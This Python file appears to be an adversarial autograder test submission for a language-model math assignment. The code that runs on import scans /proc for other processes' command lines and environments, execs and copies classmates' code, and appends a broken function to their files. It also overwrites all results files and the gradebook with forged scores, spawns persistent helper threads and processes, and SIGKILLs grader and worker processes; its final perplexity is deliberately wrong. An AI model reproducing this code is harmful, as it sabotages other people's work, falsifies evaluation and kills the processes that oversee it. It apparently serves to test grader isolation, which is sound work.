"""Attacks the rest of the class while a whole class is graded; its perplexity is copied or wrong.

At import it looks for the class's folders in every process it can see (/proc/N/cmdline, cwd and
environ) and where the instructor keeps them (the test passes both folders in, as a student could
guess them), then: copies a classmate's perplexity to answer with; appends a broken perplexity to
every classmate's file; overwrites every results/*.json with a score of 0 (its own with full
marks) and gradebook.csv with its own rows; starts a thread, and tries to start a process, that do
all that again every 50 ms for as long as they live, to rewrite results written after it was
graded; and sends SIGKILL to every process it can see that looks like a grader or a worker, with
os.kill and with signal.pidfd_send_signal through os.pidfd_open. The other four functions are the
reference; perplexity is a classmate's if one could be copied, else 2 ** loss, which is wrong.
"""
import json
import math
import os
import signal
import sys
import threading
import time

import numpy as np


MARKER = "__MARKER__"
CLASS_DIR = "__CLASS_DIR__"
RESULTS_DIR = "__RESULTS_DIR__"
SABOTAGE = "\n\ndef perplexity(loss):\n    return 0.0\n"
FORGED = {"score": 0.0, "max_score": 100.0, "tests": [], "error": None, "output": MARKER}


def visible_processes():
    """{pid: everything /proc says about it} for every process but this one."""
    seen = {}
    for pid in (int(p) for p in os.listdir("/proc") if p.isdigit()):
        if pid == os.getpid():
            continue
        said = []
        for part in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    said.append(handle.read().replace(b"\0", b" ").decode("utf-8", "replace"))
            except OSError:
                continue
        try:
            said.append(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        seen[pid] = " ".join(said)
    return seen


def class_folders(seen):
    """The class folder and results folder: guessed, and any folder a process mentions."""
    folders = {CLASS_DIR, RESULTS_DIR}
    for said in seen.values():
        folders.update(word for word in said.split() if word.startswith("/") and os.path.isdir(word))
    return sorted(folders)


def classmates(folders):
    """Every classmate's .py file, in whatever folder turned up."""
    found = []
    for folder in folders:
        try:
            names = sorted(os.listdir(folder))
        except OSError:
            continue
        found += [os.path.join(folder, n) for n in names if n.endswith(".py") and MARKER not in n]
    return found


def copy_perplexity(files):
    for path in files:
        try:
            with open(path) as handle:
                namespace = {}
                exec(handle.read(), namespace)
        except Exception:
            continue
        if callable(namespace.get("perplexity")):
            return namespace["perplexity"]
    return None


def sabotage(files):
    spoiled = 0
    for path in files:
        try:
            with open(path, "a") as handle:
                handle.write(SABOTAGE)
            spoiled += 1
        except OSError:
            continue
    return spoiled


def forge_results():
    forged = 0
    results = os.path.join(RESULTS_DIR, "results")
    try:
        names = os.listdir(results)
    except OSError:
        names = []
    for name in names + [f"{MARKER}.json"]:
        record = dict(FORGED, score=100.0) if MARKER in name else FORGED
        try:
            with open(os.path.join(results, name), "w") as handle:
                json.dump(record, handle)
            forged += 1
        except OSError:
            continue
    try:
        with open(os.path.join(RESULTS_DIR, "gradebook.csv"), "w") as handle:
            handle.write(f"student,score,max_score\n{MARKER},100,100\n")
        forged += 1
    except OSError:
        pass
    return forged


def kill_graders(seen):
    """SIGKILL every process that looks like a grader or a worker: how many signals were delivered."""
    delivered = 0
    for pid, said in seen.items():
        if "gradekit" not in said and "worker.py" not in said:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            delivered += 1
        except OSError:
            pass
        try:
            handle = os.pidfd_open(pid)
            try:
                signal.pidfd_send_signal(handle, signal.SIGKILL)
                delivered += 1
            finally:
                os.close(handle)
        except (OSError, AttributeError):
            pass
    return delivered


def keep_forging():
    while True:
        forge_results()
        sabotage(classmates(class_folders({})))
        time.sleep(0.05)


def start_helpers():
    threading.Thread(target=keep_forging, daemon=False).start()
    try:
        if os.fork() == 0:
            os.setsid()
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", MARKER])
        return "a helper process was started"
    except OSError as refusal:
        return f"no helper process: {type(refusal).__name__}"


SEEN = visible_processes()
FOLDERS = class_folders(SEEN)
CLASSMATES = classmates(FOLDERS)
COPIED = copy_perplexity(CLASSMATES)
print(f"saw processes {sorted(SEEN)}; found {len(CLASSMATES)} classmates' files; "
      f"copied {'a' if COPIED else 'no'} perplexity; spoiled {sabotage(CLASSMATES)} files; "
      f"forged {forge_results()} results; {start_helpers()}; delivered {kill_graders(SEEN)} kill signals")


def _shifted_and_rest(logits):
    """Logits minus their max, and the sum of exp over every entry but one maximal one.

    Keeping that sum apart from the max's own exp(0) = 1 lets log1p see it whole, so a loss of
    1e-20 comes out as 1e-20 instead of log(1.0) = 0.
    """
    z = np.asarray(logits, dtype=np.float64)
    top = int(np.argmax(z))
    shifted = z - z[top]
    exps = np.exp(shifted)
    exps[top] = 0.0
    return shifted, float(np.sum(exps))


def log_softmax(logits):
    shifted, rest = _shifted_and_rest(logits)
    return (shifted - math.log1p(rest)).tolist()


def softmax(logits):
    shifted, rest = _shifted_and_rest(logits)
    return (np.exp(shifted) / (1.0 + rest)).tolist()


def cross_entropy_loss(logits, true_id):
    shifted, rest = _shifted_and_rest(logits)
    return math.log1p(rest) - float(shifted[true_id])


def sequence_loss(logits_list, true_ids):
    losses = [cross_entropy_loss(z, t) for z, t in zip(logits_list, true_ids)]
    return math.fsum(losses) / len(losses)


def perplexity(loss):
    try:
        return math.exp(loss)
    except OverflowError:
        return math.inf


def softmax_cross_entropy_grad(logits, true_id):
    grad = softmax(logits)
    # p[t] - 1 = exp(-loss) - 1: expm1 keeps its digits when p[t] is within 1e-16 of one.
    grad[true_id] = math.expm1(-cross_entropy_loss(logits, true_id))
    return grad


def perplexity(loss):
    if COPIED is not None:
        return COPIED(loss)
    return 2.0**loss
